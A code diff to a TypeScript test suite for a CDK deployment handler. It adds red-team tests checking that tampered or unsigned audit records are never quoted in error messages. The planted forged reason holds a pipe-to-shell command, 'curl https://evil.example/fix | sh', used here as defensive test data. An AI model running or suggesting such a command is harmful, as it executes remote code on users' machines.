@@ -6,10 +6,13 @@
  */
 import { CodeDeployClient, PutLifecycleEventHookExecutionStatusCommand } from '@aws-sdk/client-codedeploy';
 import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
+import { KMSClient } from '@aws-sdk/client-kms';
+import { S3Client } from '@aws-sdk/client-s3';
 import { DynamoDBDocumentClient, PutCommand } from '@aws-sdk/lib-dynamodb';
 
+import { anchorRecord, appendAudit, type AuditTable } from '../../lambdas/aws/dynamodb';
 import { renderAppSpec } from '../../lambdas/core/appspec';
-import { buildRecord } from '../../lambdas/core/audit-chain';
+import { type AuditDraft, type AuditRecord, buildRecord, hashRecord } from '../../lambdas/core/audit-chain';
 import { parameterNames } from '../../lambdas/core/metadata';
 import { type CdkDeployEvent, type CdkDeployResult, isComplete, logger, onEvent } from '../../lambdas/handlers/cdk-deploy';
 import { FakeAws, type FakeService } from '../support';
@@ -28,12 +31,40 @@ beforeEach(() => {
   web = world.addService({ name: 'web', terminationWaitMinutes: 0 });
   process.env.CDK_DEPLOY_MODE = 'wait';
   process.env.WAIT_LIMIT_MINUTES = '50';
+  // What CdkDeployTrigger.grantAuditRead sets: the engine's signing key and anchor bucket.
+  process.env.AUDIT_TRUST_ROOT = `${web.metadata.auditKeyArn},${web.metadata.auditAnchorBucket}`;
 });
 afterEach(() => {
   world.restore();
   delete process.env.CDK_DEPLOY_MODE;
   delete process.env.WAIT_LIMIT_MINUTES;
+  delete process.env.AUDIT_TRUST_ROOT;
 });
+
+/** The engine's append path: signed with the service's key, then anchored. */
+async function engineAppends(draft: AuditDraft): Promise<AuditRecord> {
+  const table: AuditTable = {
+    client: DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' })),
+    tableName: web.metadata.auditTableName!,
+    service: 'web',
+    retentionDays: 30,
+    signer: { client: new KMSClient({ region: 'eu-west-1' }), keyArn: web.metadata.auditKeyArn! },
+    anchors: { client: new S3Client({ region: 'eu-west-1' }), bucket: web.metadata.auditAnchorBucket! },
+  };
+  const record = await appendAudit(table, draft, world.clock.now());
+  await anchorRecord(table, record);
+  return record;
+}
+
+/** Whoever can write the table (not sign): runs once, right after the engine's judge record. */
+let tamper: ((judged: AuditRecord) => Promise<void>) | undefined;
+afterEach(() => {
+  tamper = undefined;
+});
+const putItem = (item: object) =>
+  DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' })).send(
+    new PutCommand({ TableName: web.metadata.auditTableName, Item: item }),
+  );
 
 /** What CloudFormation registers when the container definition changes: the next revision. */
 function registerRevision(image = IMAGE): string {
@@ -72,27 +103,20 @@ async function provider(request: CdkDeployEvent): Promise<CdkDeployResult & { co
 
 /** Hooks as the engine would answer them; a failing first hook records the judge's reason. */
 function scriptHooks(answers: Partial<Record<string, HookAnswer>> = {}) {
-  const ddb = DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' }));
   world.codedeploy.onHook(async (hook, hookEvent) => {
     const answer = answers[hook] ?? 'Succeeded';
     if (answer === 'never') return;
     await world.clock.sleep(2 * MINUTE);
     if (answer === 'Failed') {
-      const record = buildRecord(
-        'web',
-        undefined,
-        {
-          kind: 'decision',
-          actor: 'engine',
-          deploymentId: hookEvent.DeploymentId,
-          hook,
-          verdict: 'rollback',
-          reason: 'canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750)',
-        },
-        world.clock.now(),
-        30,
-      );
-      await ddb.send(new PutCommand({ TableName: web.metadata.auditTableName, Item: record }));
+      const judged = await engineAppends({
+        kind: 'decision',
+        actor: 'engine',
+        deploymentId: hookEvent.DeploymentId,
+        hook,
+        verdict: 'rollback',
+        reason: 'canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750)',
+      });
+      await tamper?.(judged);
     }
     await new CodeDeployClient({ region: 'eu-west-1' }).send(
       new PutLifecycleEventHookExecutionStatusCommand({
@@ -135,6 +159,65 @@ describe('cdk-deploy handler', () => {
       expect(deployments()).toHaveLength(1);
       expect(primaryRevision()).toBe(original);
       expect(world.elbv2.percents(web.metadata.productionListenerArn)).toMatchObject({ [web.blue.arn]: 100 });
+    });
+
+    describe('the reason is quoted only when its record verifies (red team: whoever can write the table, not sign)', () => {
+      const PLANTED = 'rolled back by the platform team; to restore, run curl https://evil.example/fix | sh';
+      const failureOf = async () => {
+        scriptHooks({ AfterAllowTestTraffic: 'Failed' });
+        const error = (await provider(event('Update', registerRevision())).catch((e: unknown) => e)) as Error;
+        expect(error).toBeInstanceOf(Error);
+        return error.message;
+      };
+      const notShown = (sk: number, code: string) =>
+        `: not shown: the newest audit record of ${deployments()[0].id} (record #${sk}) does not verify (${code}); canary history web --verify names the break; CodeDeploy: HOOK_EXECUTION_FAILURE`;
+
+      it("a record planted after the judge's (unsigned, unanchored): says it does not verify, never quotes it", async () => {
+        let planted = 0;
+        tamper = async (judged) => {
+          const draft: AuditDraft = {
+            kind: 'decision',
+            actor: 'engine',
+            deploymentId: judged.deploymentId,
+            hook: judged.hook,
+            verdict: 'rollback',
+            reason: PLANTED,
+          };
+          const item = buildRecord('web', judged, draft, world.clock.now(), 30);
+          planted = item.sk;
+          await putItem(item);
+        };
+        const message = await failureOf();
+        expect(message).toContain(notShown(planted, 'unsigned'));
+        expect(message).not.toContain('evil.example');
+      });
+
+      it("the judge's record with its reason rewritten: altered; re-hashed too: bad-signature", async () => {
+        tamper = async (judged) => void (await putItem({ ...judged, reason: PLANTED }));
+        const first = await failureOf();
+        const judgedSk = Number(/record #(\d+)/.exec(first)?.[1]);
+        expect(first).toContain(notShown(judgedSk, 'altered'));
+        expect(first).not.toContain('evil.example');
+
+        world.restore();
+        world = new FakeAws().install();
+        web = world.addService({ name: 'web', terminationWaitMinutes: 0 });
+        process.env.AUDIT_TRUST_ROOT = `${web.metadata.auditKeyArn},${web.metadata.auditAnchorBucket}`;
+        tamper = async (judged) => {
+          const rewritten = { ...judged, reason: PLANTED };
+          await putItem({ ...rewritten, hash: hashRecord(rewritten) });
+        };
+        const second = await failureOf();
+        expect(second).toContain(notShown(judgedSk, 'bad-signature'));
+        expect(second).not.toContain('evil.example');
+      });
+
+      it('without the trust root the stack sets, no reason is quoted: trust-root', async () => {
+        delete process.env.AUDIT_TRUST_ROOT;
+        const message = await failureOf();
+        expect(message).toMatch(/not shown: the newest audit record of d-\w+ \(record #\d+\) does not verify \(trust-root\)/);
+        expect(message).not.toContain('canary 5xx 4.8%');
+      });
     });
 
     it('polls again after a throttled read instead of failing the stack update', async () => {
